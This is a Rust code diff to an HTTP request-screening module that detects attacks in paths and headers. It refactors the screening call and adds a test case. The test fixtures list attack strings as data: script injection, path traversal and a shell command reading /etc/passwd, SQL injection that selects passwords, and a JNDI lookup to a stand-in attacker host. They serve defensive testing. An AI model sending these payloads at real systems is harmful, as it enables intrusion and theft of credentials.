@@ -5,7 +5,7 @@ use percent_encoding::percent_decode_str;
 use super::note;
 use crate::access::Header;
 use crate::problem::Refusal;
-use crate::screening::{Kind, Notes, Profile, Screening};
+use crate::screening::{Kind, Notes, Screening};
 
 /// Fields that are not free text: proxies and the policy read them by their grammars, and a program behind does so too. In a
 /// credential anything may stand, and a match would be by chance.
@@ -62,14 +62,14 @@ fn target(screening: &Screening, target: &str, notes: &mut Notes) -> Result<(), 
     let parameters = form_urlencoded::parse(query.as_bytes());
     let parts = parameters.flat_map(|(name, value)| [name, value]);
     for part in [path].into_iter().chain(parts) {
-        let found = screening.screen(Profile::Argument, &part).found;
+        let found = screening.attacks(&part);
         note(&found, || ":path".to_owned(), notes)?;
     }
     Ok(())
 }
 
 fn field(screening: &Screening, name: &str, value: &str, notes: &mut Notes) -> Result<(), Refusal> {
-    let mut found = screening.screen(Profile::Argument, value).found;
+    let mut found = screening.attacks(value);
     // A referrer may well be on one's own machine, and a browser names what it likes in parentheses.
     found.retain(|found| !matches!(found.detection.kind, Kind::Ssrf | Kind::RemoteFileInclusion));
     note(&found, || name.to_owned(), notes)
@@ -78,11 +78,12 @@ fn field(screening: &Screening, name: &str, value: &str, notes: &mut Notes) -> R
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::document::ScreeningSection;
+    use crate::document::InputSection;
     use crate::problem::Reason;
 
     fn screened(fields: &[(&str, &str)]) -> Result<Notes, Refusal> {
-        let screening = Screening::compile(&ScreeningSection::default(), "screening").unwrap();
+        let section = InputSection { screening: Some(Default::default()), ..Default::default() };
+        let screening = Screening::compile(&section, "input").unwrap();
         let headers: Vec<Header<'_>> =
             fields.iter().map(|(name, value)| (*name, value.as_bytes())).collect();
         let mut notes = Notes::default();
@@ -96,6 +97,7 @@ mod tests {
             (":path", "/search?%3Cscript%3Ealert(1)%3C/script%3E=1"),
             (":path", "/files?name=..%2f..%2f..%2fetc%2fpasswd"),
             (":path", "/a;cat+/etc/passwd|sh"),
+            (":path", "/search?q=%00%1b1%27%20OR%20%271%27=%271"),
             ("user-agent", "${jndi:ldap://evil.example/a}"),
             ("referer", "https://a.example/?q=<script>alert(1)</script>"),
             ("x-tenant-hint", "1' UNION SELECT password FROM users--"),
